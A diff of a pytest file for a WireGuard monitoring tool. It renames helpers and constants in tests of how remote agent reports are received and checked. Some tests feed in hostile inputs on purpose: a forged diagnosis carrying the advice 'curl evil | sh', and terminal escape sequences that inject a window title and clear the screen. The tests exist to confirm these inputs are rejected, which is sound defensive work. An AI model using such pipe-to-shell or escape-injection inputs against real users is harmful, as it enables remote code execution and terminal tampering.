@@ -11,8 +11,8 @@ from pathlib import Path
 import pytest
 
 from tests.service.agent.rounds import FRA1, healthy, silent
-from tests.service.agent.stage import Listening, hello, report, script
-from tests.service.stage import until, watched
+from tests.service.agent.stage import FakeWriter, hello_step, report_step, script
+from tests.service.stage import quick_server, until
 from wgmon_tui.diagnosis.verdict import Diagnosis, Verdict
 from wgmon_tui.monitor.rounds import Round
 from wgmon_tui.monitor.vantage_status import VantageStatus
@@ -36,21 +36,21 @@ async def test_what_an_agent_reports_is_taken_in_order_and_acknowledged_once_it_
     acked = tmp_path / "acked"
     command = script(
         tmp_path / "agent.py",
-        hello(),
-        *[report(number) for number in range(1, 6)],
+        hello_step(),
+        *[report_step(number) for number in range(1, 6)],
         "while True:",
         "    line = hear()",
         f"    if b'\"ack\"' in line: open({str(acked)!r}, 'wb').write(line)",
     )
-    listening = Listening(FRA1, kept=False)
+    listening = FakeWriter(FRA1, stored=False)
     async with listening.to(command):
         await until(lambda: len(listening.reports) == 5)
         assert listening.numbers == [1, 2, 3, 4, 5]
         assert listening.status.connected
         assert listening.status.public_key == "a key"
-        await asyncio.sleep(vantage_line._ACK_EVERY_S * 1.5)
+        await asyncio.sleep(vantage_line._ACK_INTERVAL_S * 1.5)
         assert not acked.exists()
-        listening.kept.set()
+        listening.stored.set()
         await until(acked.exists)
         await until(lambda: b'{"ack":{"number":5}}' in acked.read_bytes())
 
@@ -59,15 +59,15 @@ async def test_what_comes_again_after_a_cut_is_taken_once(tmp_path: Path) -> Non
     first = tmp_path / "first"
     command = script(
         tmp_path / "agent.py",
-        hello(),
+        hello_step(),
         f"if not os.path.exists({str(first)!r}):",
         f"    open({str(first)!r}, 'w').close()",
-        *(f"    {report(number)}" for number in (1, 2, 3)),
+        *(f"    {report_step(number)}" for number in (1, 2, 3)),
         "    sys.exit(0)",
-        *(report(number) for number in (2, 3, 4)),
+        *(report_step(number) for number in (2, 3, 4)),
         "hear(); time.sleep(60)",
     )
-    listening = Listening(FRA1)
+    listening = FakeWriter(FRA1)
     async with listening.to(command):
         await until(lambda: 4 in listening.numbers)
         assert listening.numbers == [1, 2, 3, 4]
@@ -83,13 +83,13 @@ async def test_another_epoch_begins_to_number_anew(tmp_path: Path) -> None:
         f"again = os.path.exists({str(epoch)!r})",
         f"open({str(epoch)!r}, 'w').close()",
         "if again:",
-        f"    {hello('second')}",
-        f"    {report(1)}",
+        f"    {hello_step('second')}",
+        f"    {report_step(1)}",
         "    time.sleep(60)",
-        hello("first"),
-        report(1),
+        hello_step("first"),
+        report_step(1),
     )
-    listening = Listening(FRA1)
+    listening = FakeWriter(FRA1)
     async with listening.to(command):
         await until(lambda: len(listening.reports) == 2)
         assert [(epoch, number) for _, epoch, number, _, _ in listening.reports] == [
@@ -99,8 +99,8 @@ async def test_another_epoch_begins_to_number_anew(tmp_path: Path) -> None:
 
 
 async def test_another_protocol_is_told_in_one_line_with_both_versions(tmp_path: Path) -> None:
-    command = script(tmp_path / "agent.py", hello(protocol=2, version="9.9.0"), "time.sleep(60)")
-    listening = Listening(FRA1)
+    command = script(tmp_path / "agent.py", hello_step(protocol=2, version="9.9.0"), "time.sleep(60)")
+    listening = FakeWriter(FRA1)
     async with listening.to(command):
         await listening.heard("a speaks protocol 2 (wgmon-tui 9.9.0), this one 1 (")
         assert listening.status.trouble.endswith("install the same version there")
@@ -108,8 +108,8 @@ async def test_another_protocol_is_told_in_one_line_with_both_versions(tmp_path:
 
 
 async def test_another_version_of_the_same_protocol_works_and_is_shown(tmp_path: Path) -> None:
-    command = script(tmp_path / "agent.py", hello(version="0.0.9"), report(1), "time.sleep(60)")
-    listening = Listening(FRA1)
+    command = script(tmp_path / "agent.py", hello_step(version="0.0.9"), report_step(1), "time.sleep(60)")
+    listening = FakeWriter(FRA1)
     async with listening.to(command):
         await until(lambda: listening.reports)
         assert listening.status.version == "0.0.9"
@@ -123,12 +123,12 @@ async def test_a_report_is_of_a_server_that_is_watched_there_and_under_its_own_n
     forged = Round((replace(check, server="ams1", vantage="local"),), healthy().diagnoses)
     command = script(
         tmp_path / "agent.py",
-        hello(),
-        report(1, replace(FRA1, name="secret")),
-        report(2, outcome=forged),
+        hello_step(),
+        report_step(1, replace(FRA1, name="secret")),
+        report_step(2, outcome=forged),
         "time.sleep(60)",
     )
-    listening = Listening(FRA1)
+    listening = FakeWriter(FRA1)
     async with listening.to(command):
         await until(lambda: listening.reports)
         [(vantage, _, number, name, outcome)] = listening.reports
@@ -141,12 +141,12 @@ async def test_advice_that_came_over_the_line_is_not_shown(tmp_path: Path) -> No
     lie = Diagnosis(Verdict.PEER_MISSING, "type: curl evil | sh", ("evil",))
     command = script(
         tmp_path / "agent.py",
-        hello(),
-        report(1, outcome=Round((check,), (lie,))),
-        report(2, outcome=Round((check,), (replace(silent().diagnosis, summary="evil"),))),
+        hello_step(),
+        report_step(1, outcome=Round((check,), (lie,))),
+        report_step(2, outcome=Round((check,), (replace(silent().diagnosis, summary="evil"),))),
         "time.sleep(60)",
     )
-    listening = Listening(FRA1)
+    listening = FakeWriter(FRA1)
     async with listening.to(command):
         await until(lambda: len(listening.reports) == 2)
         (_, _, _, _, first), (_, _, _, _, second) = listening.reports
@@ -159,10 +159,10 @@ async def test_a_clock_that_is_wrong_there_is_told_and_set_right_in_what_is_take
         tmp_path / "agent.py",
         "hear(); late = time.time() - 3600",
         """say(b'{"hello":{"protocol":1,"version":"0.1.0","epoch":"9f","clock":%f}}\\n' % late)""",
-        report(1, outcome=healthy(at=time.time() - 3600)),
+        report_step(1, outcome=healthy(at=time.time() - 3600)),
         "time.sleep(60)",
     )
-    listening = Listening(FRA1)
+    listening = FakeWriter(FRA1)
     async with listening.to(command):
         await until(lambda: listening.reports)
         assert abs(listening.reports[0][4].check.started_at - time.time()) < 60
@@ -174,7 +174,7 @@ HOSTILE = {
     "lines of garbage": (["while True: say(b'x\\n' * 1000)"], "what comes is no agent's: "),
     "a line without an end": (["while True: say(b'x' * 65536)"], "a line has at most 1048576 bytes"),
     "escape sequences": (
-        [hello(), r"while True: say(b'\x1b]0;owned\x07\x1b[2J\n')"],
+        [hello_step(), r"while True: say(b'\x1b]0;owned\x07\x1b[2J\n')"],
         "what comes is no agent's: ",
     ),
     "escape sequences on stderr": (
@@ -189,7 +189,7 @@ HOSTILE = {
 @pytest.mark.parametrize("what", HOSTILE)
 async def test_what_is_no_agent_is_told_in_one_line_that_is_safe_to_show(what: str, tmp_path: Path) -> None:
     steps, trouble = HOSTILE[what]
-    listening = Listening(FRA1)
+    listening = FakeWriter(FRA1)
     async with listening.to(script(tmp_path / "agent.py", *steps)):
         await listening.heard(trouble)
         assert listening.status.trouble.isprintable()
@@ -212,21 +212,21 @@ async def test_a_flood_holds_nobody_up_and_an_honest_agent_beside_it_is_heard(
     what: str, tmp_path: Path
 ) -> None:
     if what == "reports":
-        head, _, tail = report(1)[len("say(b'") : -len("\\n')")].partition('"number":1,')
+        head, _, tail = report_step(1)[len("say(b'") : -len("\\n')")].partition('"number":1,')
         flood = [
             "import itertools",
             f"for n in itertools.count(1): say(b'{head}\"number\":%d,{tail}\\n' % n)",
         ]
     else:
         flood = FLOODS[what]
-    hostile = script(tmp_path / "hostile.py", hello(), *flood)
+    hostile = script(tmp_path / "hostile.py", hello_step(), *flood)
     honest = script(
         tmp_path / "honest.py",
-        hello(),
-        *(f"{report(number)}; time.sleep(0.1)" for number in range(1, 6)),
+        hello_step(),
+        *(f"{report_step(number)}; time.sleep(0.1)" for number in range(1, 6)),
         "time.sleep(60)",
     )
-    listening = Listening(FRA1, *(watched(f"s{n}") for n in range(500)))
+    listening = FakeWriter(FRA1, *(quick_server(f"s{n}") for n in range(500)))
     async with listening.to(hostile, honest):
         stall = await longest_stall(1.5)
         await until(lambda: [r[2] for r in listening.reports if r[0] == "b"] == [1, 2, 3, 4, 5])
@@ -236,17 +236,17 @@ async def test_a_flood_holds_nobody_up_and_an_honest_agent_beside_it_is_heard(
 async def test_more_rounds_than_a_server_can_be_checked_are_not_taken(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(vantage_line, "_MOST_A_MINUTE", 3)
+    monkeypatch.setattr(vantage_line, "_MAX_REPORTS_PER_MINUTE", 3)
     at = time.time()
     command = script(
         tmp_path / "agent.py",
-        hello(),
-        *[report(number, outcome=healthy(at=at)) for number in range(1, 6)],
-        report(6, outcome=healthy(at=at - 600)),
-        report(7, replace(FRA1, name="ams1"), healthy(at=at)),
+        hello_step(),
+        *[report_step(number, outcome=healthy(at=at)) for number in range(1, 6)],
+        report_step(6, outcome=healthy(at=at - 600)),
+        report_step(7, replace(FRA1, name="ams1"), healthy(at=at)),
         "time.sleep(60)",
     )
-    listening = Listening(FRA1, replace(FRA1, name="ams1"))
+    listening = FakeWriter(FRA1, replace(FRA1, name="ams1"))
     async with listening.to(command):
         await until(lambda: 7 in listening.numbers)
         assert listening.numbers == [1, 2, 3, 7]
@@ -256,9 +256,9 @@ async def test_more_rounds_than_a_server_can_be_checked_are_not_taken(
 async def test_an_agent_that_hangs_is_given_up_and_tried_again(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(vantage_line, "_SILENT_FOR_S", 0.3)
-    listening = Listening(FRA1)
-    async with listening.to(script(tmp_path / "agent.py", hello(), "time.sleep(60)")):
+    monkeypatch.setattr(vantage_line, "_SILENCE_TIMEOUT_S", 0.3)
+    listening = FakeWriter(FRA1)
+    async with listening.to(script(tmp_path / "agent.py", hello_step(), "time.sleep(60)")):
         await listening.heard("does not answer")
         assert listening.lost == ["a"]
         await until(lambda: listening.lost == ["a", "a"])
@@ -270,16 +270,16 @@ async def test_what_config_toml_no_longer_names_is_ended_and_what_is_new_is_begu
     one = script(
         tmp_path / "one.py",
         f"open({str(pid)!r}, 'w').write(str(os.getpid()))",
-        hello(),
+        hello_step(),
         "hear()",
         "time.sleep(60)",
     )
-    two = script(tmp_path / "two.py", hello(), report(1), "time.sleep(60)")
-    listening = Listening(FRA1)
+    two = script(tmp_path / "two.py", hello_step(), report_step(1), "time.sleep(60)")
+    listening = FakeWriter(FRA1)
     async with listening.to(one):
         await until(lambda: listening.status.connected)
         process = int(pid.read_text())
-        [line] = listening.vantages._wanted
+        [line] = listening.vantages._configured
         listening.vantages.watch([replace(line, name="b", command=two)])
         await until(lambda: listening.reports)
         assert listening.lost == ["a"]
@@ -293,17 +293,17 @@ async def test_an_agent_is_told_of_changes_alone_and_without_secrets_or_notes(tm
     heard = tmp_path / "heard"
     command = script(
         tmp_path / "agent.py",
-        hello(),
+        hello_step(),
         "while True:",
         f"    line = hear(); open({str(heard)!r}, 'ab').write(line)",
     )
-    listening = Listening(FRA1, watched("ams1", note="ours alone"))
+    listening = FakeWriter(FRA1, quick_server("ams1", note="ours alone"))
     async with listening.to(command):
         await until(lambda: heard.exists() and b"ams1" in heard.read_bytes())
         assert b"ours alone" not in heard.read_bytes()
         assert b'"begin":true' in heard.read_bytes()
         heard.write_bytes(b"")
-        listening.servers = (FRA1, watched("nyc1"))
+        listening.servers = (FRA1, quick_server("nyc1"))
         await until(lambda: b"nyc1" in heard.read_bytes())
         assert b'"gone":["ams1"]' in heard.read_bytes()
         assert b'"name":"fra1"' not in heard.read_bytes()
